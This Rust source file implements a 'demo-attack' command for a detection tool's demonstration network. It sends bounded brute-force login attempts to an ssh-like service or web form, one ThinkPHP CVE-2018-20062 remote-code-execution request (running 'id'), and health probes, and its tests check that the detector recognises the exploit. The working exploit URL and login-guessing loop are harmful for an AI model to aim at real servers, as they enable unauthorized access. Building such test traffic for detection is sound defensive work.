//! `sentinel demo-attack`: the attacker (and the health probe) of the demonstration network. It
//! drives a `demo-target`: failed logins to the ssh-like service (`ssh`) or the web form (`http`),
//! one ThinkPHP CVE-2018-20062 request (`exploit`), or one reachability check (`probe`), and prints
//! one JSON line of what happened. Every attempt is bounded by `--timeout`; the number of attempts
//! is capped.

use clap::{Args, ValueEnum};
use serde_json::{json, Map, Value};
use std::collections::BTreeMap;
use std::io;
use std::net::{IpAddr, SocketAddr};
use std::process::ExitCode;
use std::time::{Duration, Instant};
use tokio::io::{AsyncBufReadExt, AsyncReadExt, AsyncWriteExt, BufReader};
use tokio::net::TcpStream;

/// The ThinkPHP CVE-2018-20062 request target (`\think\app/invokefunction` calling `system('id')`),
/// with the bytes a strict HTTP client must not send raw percent-encoded.
pub const THINKPHP_TARGET: &str = "/index.php?s=/Index/%5Cthink%5Capp/invokefunction\
&function=call_user_func_array&vars%5B0%5D=system&vars%5B1%5D%5B%5D=id";

/// Most attempts one run makes.
const MAX_ATTEMPTS: u32 = 10_000;

/// What to do.
#[derive(Clone, Copy, Debug, PartialEq, Eq, ValueEnum)]
pub enum AttackKind {
    /// Failed logins to a `demo-target --kind tcp`, one connection each.
    Ssh,
    /// Failed `POST /login` to a `demo-target --kind http`.
    Http,
    /// One ThinkPHP CVE-2018-20062 request to a `demo-target --kind http`.
    Exploit,
    /// One TCP connect (and `GET /ready` for a URL target); exit 0 when reachable.
    Probe,
}

/// `sentinel demo-attack` arguments.
#[derive(Args, Debug)]
pub struct DemoAttackArgs {
    /// What to do.
    #[arg(long)]
    pub kind: AttackKind,
    /// HOST:PORT, or an http:// URL (http, exploit, and a probe of an HTTP target). HOST may be a name.
    #[arg(long)]
    pub target: String,
    /// Attempts (ssh, http).
    #[arg(long, default_value_t = 20, value_parser = clap::value_parser!(u32).range(1..=MAX_ATTEMPTS as i64))]
    pub attempts: u32,
    /// Milliseconds between attempts.
    #[arg(long, default_value_t = 100, value_parser = clap::value_parser!(u64).range(0..=60_000))]
    pub interval: u64,
    /// Milliseconds each connection (and each answer) may take.
    #[arg(long, default_value_t = 3_000, value_parser = clap::value_parser!(u64).range(1..=120_000))]
    pub timeout: u64,
    /// User name to try (default: root for ssh, admin for http).
    #[arg(long)]
    pub user: Option<String>,
}

/// Where to go: the host as given, its port, and for an HTTP target the base URL.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Target {
    /// The host (a name, or an address without brackets).
    pub host: String,
    /// The port.
    pub port: u16,
    /// `http://host:port` when the target is HTTP.
    pub base: Option<String>,
}

/// Reads `HOST:PORT`, `[v6]:PORT` or `http://HOST[:PORT][/]` (`http`: a bare HOST:PORT becomes an
/// http URL, for the kinds that need one).
pub fn parse_target(s: &str, http: bool) -> Result<Target, String> {
    let bad = || format!("--target {s:?}: expected HOST:PORT or http://HOST[:PORT]");
    let (rest, is_url) = match s.strip_prefix("http://") {
        Some(r) => (r.trim_end_matches('/'), true),
        None if s.starts_with("https://") => {
            return Err(format!("--target {s:?}: demo targets speak plain http"))
        }
        None => (s, false),
    };
    if rest.contains(['/', '?', '#', '@', ' ']) || rest.is_empty() {
        return Err(bad());
    }
    let (host, port) = match rest.rsplit_once(':') {
        Some((h, p)) if !h.contains(':') || (h.starts_with('[') && h.ends_with(']')) => {
            (h, p.parse::<u16>().ok().filter(|p| *p > 0).ok_or_else(bad)?)
        }
        _ if is_url => (rest, 80),
        _ => return Err(bad()),
    };
    let host = host.trim_start_matches('[').trim_end_matches(']');
    if host.is_empty() {
        return Err(bad());
    }
    let base = (is_url || http).then(|| {
        let h = if host.contains(':') {
            format!("[{host}]")
        } else {
            host.to_owned()
        };
        format!("http://{h}:{port}")
    });
    Ok(Target {
        host: host.to_owned(),
        port,
        base,
    })
}

/// The addresses of `host` (a name or an address) at `port`.
///
/// Names go through `tokio::net::lookup_host`, i.e. the C library's resolver (`getaddrinfo`): the
/// one place to swap for a resolver that reads /etc/resolv.conf and /etc/hosts itself, for static
/// binaries in images where the C library's name service is not there.
pub async fn resolve(host: &str, port: u16) -> io::Result<Vec<SocketAddr>> {
    if let Ok(ip) = host.parse::<IpAddr>() {
        return Ok(vec![SocketAddr::new(ip, port)]);
    }
    let addrs: Vec<SocketAddr> = tokio::net::lookup_host((host, port)).await?.collect();
    if addrs.is_empty() {
        return Err(io::Error::new(
            io::ErrorKind::NotFound,
            format!("{host} has no address"),
        ));
    }
    Ok(addrs)
}

/// Runs the attack or probe and prints its JSON line. Exit 0 when something was reached (the probe:
/// when the target answers); 1 when nothing could be reached; 2 on a usage error.
pub fn run(a: DemoAttackArgs) -> ExitCode {
    let http = matches!(a.kind, AttackKind::Http | AttackKind::Exploit);
    let target = match parse_target(&a.target, http) {
        Ok(t) => t,
        Err(e) => {
            eprintln!("sentinel demo-attack: {e}");
            return ExitCode::from(2);
        }
    };
    let rt = match super::small_runtime() {
        Ok(rt) => rt,
        Err(e) => {
            eprintln!("sentinel demo-attack: cannot start the runtime: {e}");
            return ExitCode::FAILURE;
        }
    };
    let (line, reached) = rt.block_on(attack(&a, &target));
    println!("{line}");
    if reached {
        ExitCode::SUCCESS
    } else {
        ExitCode::FAILURE
    }
}

/// What the attempts of one run came to.
#[derive(Debug, Default)]
struct Tally {
    attempts: u32,
    connected: u32,
    refused: u32,
    timed_out: u32,
    errors: u32,
    answers: BTreeMap<String, u32>,
    last_error: Option<String>,
}

impl Tally {
    fn failed(&mut self, e: &Failure) {
        match e {
            Failure::Refused(_) => self.refused += 1,
            Failure::TimedOut(_) => self.timed_out += 1,
            Failure::Other(_) => self.errors += 1,
        }
        self.last_error = Some(e.to_string());
    }

    fn answered(&mut self, answer: String) {
        self.connected += 1;
        *self.answers.entry(answer).or_default() += 1;
    }
}

/// Why an attempt reached nothing (or broke off).
#[derive(Debug)]
enum Failure {
    Refused(String),
    TimedOut(String),
    Other(String),
}

impl std::fmt::Display for Failure {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            Failure::Refused(s) | Failure::TimedOut(s) | Failure::Other(s) => f.write_str(s),
        }
    }
}

fn io_failure(what: &str, e: &io::Error) -> Failure {
    let text = format!("{what}: {e}");
    match e.kind() {
        io::ErrorKind::ConnectionRefused => Failure::Refused(text),
        io::ErrorKind::TimedOut => Failure::TimedOut(text),
        _ => Failure::Other(text),
    }
}

async fn attack(a: &DemoAttackArgs, target: &Target) -> (Value, bool) {
    let timeout = Duration::from_millis(a.timeout);
    let started = Instant::now();
    if a.kind == AttackKind::Probe {
        let r = probe(target, timeout).await;
        let ok = r.is_ok();
        return (
            json!({
                "target": a.target,
                "ok": ok,
                "ms": started.elapsed().as_millis() as u64,
                "error": r.err().map(|e| e.to_string()),
            }),
            ok,
        );
    }
    let mut tally = Tally::default();
    let attempts = if a.kind == AttackKind::Exploit {
        1
    } else {
        a.attempts
    };
    let client = match a.kind {
        AttackKind::Ssh => None,
        _ => match http_client(target, timeout).await {
            Ok(c) => Some(c),
            Err(e) => {
                tally.attempts = attempts;
                tally.failed(&e);
                return (summary(a, &tally, started), false);
            }
        },
    };
    for i in 0..attempts {
        if i > 0 && a.interval > 0 {
            tokio::time::sleep(Duration::from_millis(a.interval)).await;
        }
        tally.attempts += 1;
        let r = match (&client, a.kind) {
            (None, _) => {
                let user = a.user.as_deref().unwrap_or("root");
                ssh_attempt(target, user, &format!("guess-{i}"), timeout).await
            }
            (Some(c), AttackKind::Exploit) => {
                http_attempt(c.get(format!("{}{THINKPHP_TARGET}", base(target)))).await
            }
            (Some(c), _) => {
                let user = a.user.as_deref().unwrap_or("admin");
                let form = format!("user={}&pass=guess-{i}", form_encode(user));
                http_attempt(
                    c.post(format!("{}/login", base(target)))
                        .header("content-type", "application/x-www-form-urlencoded")
                        .body(form),
                )
                .await
            }
        };
        match r {
            Ok(answer) => tally.answered(answer),
            Err(e) => tally.failed(&e),
        }
    }
    let reached = tally.connected > 0;
    (summary(a, &tally, started), reached)
}

fn base(t: &Target) -> &str {
    t.base.as_deref().unwrap_or("")
}

fn summary(a: &DemoAttackArgs, t: &Tally, started: Instant) -> Value {
    let answers: Map<String, Value> = t
        .answers
        .iter()
        .map(|(k, v)| (k.clone(), json!(v)))
        .collect();
    json!({
        "kind": format!("{:?}", a.kind).to_lowercase(),
        "target": a.target,
        "attempts": t.attempts,
        "connected": t.connected,
        "refused": t.refused,
        "timed_out": t.timed_out,
        "errors": t.errors,
        "answers": answers,
        "last_error": t.last_error,
        "ms": started.elapsed().as_millis() as u64,
    })
}

fn form_encode(s: &str) -> String {
    s.bytes()
        .map(|b| match b {
            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'_' | b'.' | b'~' => {
                char::from(b).to_string()
            }
            _ => format!("%{b:02X}"),
        })
        .collect()
}

/// Connects to the first address of `target` that accepts within `timeout`.
async fn connect(target: &Target, timeout: Duration) -> Result<TcpStream, Failure> {
    let addrs = tokio::time::timeout(timeout, resolve(&target.host, target.port))
        .await
        .map_err(|_| Failure::TimedOut(format!("resolving {}: timed out", target.host)))?
        .map_err(|e| Failure::Other(format!("resolving {}: {e}", target.host)))?;
    let mut last = Failure::Other(format!("{} has no address", target.host));
    for addr in addrs {
        match tokio::time::timeout(timeout, TcpStream::connect(addr)).await {
            Ok(Ok(s)) => return Ok(s),
            Ok(Err(e)) => last = io_failure(&format!("connect {addr}"), &e),
            Err(_) => last = Failure::TimedOut(format!("connect {addr}: timed out")),
        }
    }
    Err(last)
}

/// The TCP connect, then for an HTTP target `GET /ready` answered 200.
async fn probe(target: &Target, timeout: Duration) -> Result<(), Failure> {
    drop(connect(target, timeout).await?);
    if target.base.is_some() {
        let c = http_client(target, timeout).await?;
        let answer = http_attempt(c.get(format!("{}/ready", base(target)))).await?;
        if answer != "200" {
            return Err(Failure::Other(format!("GET /ready answered {answer}")));
        }
    }
    Ok(())
}

/// One connection to the ssh-like service: banner, user, a wrong password; its answer line.
async fn ssh_attempt(
    target: &Target,
    user: &str,
    password: &str,
    timeout: Duration,
) -> Result<String, Failure> {
    let stream = connect(target, timeout).await?;
    let talk = async {
        let (read, mut write) = stream.into_split();
        let mut read = BufReader::new(read.take(4096));
        let banner = line(&mut read).await?;
        if !banner.starts_with("SSH-") {
            return Err(io::Error::other(format!(
                "not the login service: {banner:?}"
            )));
        }
        prompt(&mut read, b"login: ").await?;
        write.write_all(format!("{user}\n").as_bytes()).await?;
        prompt(&mut read, b"password: ").await?;
        write.write_all(format!("{password}\n").as_bytes()).await?;
        let answer = line(&mut read).await?;
        let _ = write.shutdown().await;
        Ok(answer)
    };
    match tokio::time::timeout(timeout, talk).await {
        Ok(Ok(answer)) => Ok(answer),
        Ok(Err(e)) => Err(io_failure("the login dialogue", &e)),
        Err(_) => Err(Failure::TimedOut("the login dialogue: timed out".into())),
    }
}

async fn line<R: tokio::io::AsyncBufRead + Unpin>(r: &mut R) -> io::Result<String> {
    let mut buf = Vec::new();
    r.read_until(b'\n', &mut buf).await?;
    if buf.is_empty() {
        return Err(io::Error::new(
            io::ErrorKind::UnexpectedEof,
            "closed by the target",
        ));
    }
    Ok(String::from_utf8_lossy(&buf).trim_end().to_owned())
}

/// Reads up to and including `prompt` (which ends without a newline).
async fn prompt<R: tokio::io::AsyncBufRead + Unpin>(r: &mut R, prompt: &[u8]) -> io::Result<()> {
    let mut seen = Vec::new();
    let last = prompt.last().copied().unwrap_or(b' ');
    loop {
        let before = seen.len();
        r.read_until(last, &mut seen).await?;
        if seen.len() == before {
            return Err(io::Error::new(
                io::ErrorKind::UnexpectedEof,
                "closed by the target",
            ));
        }
        if seen.ends_with(prompt) {
            return Ok(());
        }
    }
}

/// An HTTP client bound to `target`'s address as [`resolve`] finds it (reqwest never resolves
/// itself), no redirects, no proxy, `timeout` per request.
async fn http_client(target: &Target, timeout: Duration) -> Result<reqwest::Client, Failure> {
    let mut b = reqwest::Client::builder()
        .timeout(timeout)
        .connect_timeout(timeout)
        .redirect(reqwest::redirect::Policy::none())
        .no_proxy()
        .user_agent(concat!("sentinel-demo-attack/", env!("CARGO_PKG_VERSION")));
    if target.host.parse::<IpAddr>().is_err() {
        let addrs = tokio::time::timeout(timeout, resolve(&target.host, target.port))
            .await
            .map_err(|_| Failure::TimedOut(format!("resolving {}: timed out", target.host)))?
            .map_err(|e| Failure::Other(format!("resolving {}: {e}", target.host)))?;
        b = b.resolve_to_addrs(&target.host, &addrs);
    }
    b.build()
        .map_err(|e| Failure::Other(format!("cannot build the HTTP client: {e}")))
}

/// Sends the request; the answer's status code.
async fn http_attempt(req: reqwest::RequestBuilder) -> Result<String, Failure> {
    match req.send().await {
        Ok(r) => {
            let status = r.status().as_u16().to_string();
            // Read (at most a little of) the body so the connection can be reused.
            let _ = r.bytes().await;
            Ok(status)
        }
        Err(e) if e.is_timeout() => Err(Failure::TimedOut(format!("request: {e}"))),
        Err(e) if e.is_connect() => {
            let refused = std::error::Error::source(&e)
                .map(|s| format!("{s:?}").contains("ConnectionRefused"))
                .unwrap_or(false);
            let text = format!("request: {e}");
            Err(if refused {
                Failure::Refused(text)
            } else {
                Failure::Other(text)
            })
        }
        Err(e) => Err(Failure::Other(format!("request: {e}"))),
    }
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used, clippy::expect_used)]
    use super::*;

    #[test]
    fn targets_are_read_in_every_form() {
        let t = parse_target("127.0.0.1:2222", false).unwrap();
        assert_eq!((t.host.as_str(), t.port, t.base), ("127.0.0.1", 2222, None));
        let t = parse_target("web1:8080", true).unwrap();
        assert_eq!(t.base.as_deref(), Some("http://web1:8080"));
        let t = parse_target("http://web1/", false).unwrap();
        assert_eq!((t.port, t.base.as_deref()), (80, Some("http://web1:80")));
        let t = parse_target("[2001:db8::1]:22", false).unwrap();
        assert_eq!((t.host.as_str(), t.port), ("2001:db8::1", 22));
        let t = parse_target("http://[2001:db8::1]:8080", false).unwrap();
        assert_eq!(t.base.as_deref(), Some("http://[2001:db8::1]:8080"));
        for bad in [
            "",
            "web1",
            "web1:0",
            "web1:x",
            "2001:db8::1",
            "https://web1",
            "http://web1/x",
            "a b:1",
        ] {
            assert!(parse_target(bad, false).is_err(), "{bad}");
        }
    }

    #[test]
    fn the_exploit_target_is_what_the_scenario_detects() {
        let markers: Vec<String> = sentinel_detect::scenario::data::list("thinkphp_rce")
            .unwrap()
            .into_iter()
            .map(str::to_ascii_lowercase)
            .collect();
        assert!(super::super::demo_web::thinkphp_exploit(
            THINKPHP_TARGET,
            &markers
        ));
        assert_eq!(
            super::super::demo_web::exploit_command(THINKPHP_TARGET),
            "sh -c id"
        );
    }

    #[tokio::test]
    async fn resolve_takes_addresses_and_names() {
        assert_eq!(
            resolve("2001:db8::1", 22).await.unwrap(),
            vec!["[2001:db8::1]:22".parse().unwrap()]
        );
        let local = resolve("localhost", 80).await.unwrap();
        assert!(
            local.iter().all(|a| a.ip().is_loopback() && a.port() == 80),
            "{local:?}"
        );
    }
}
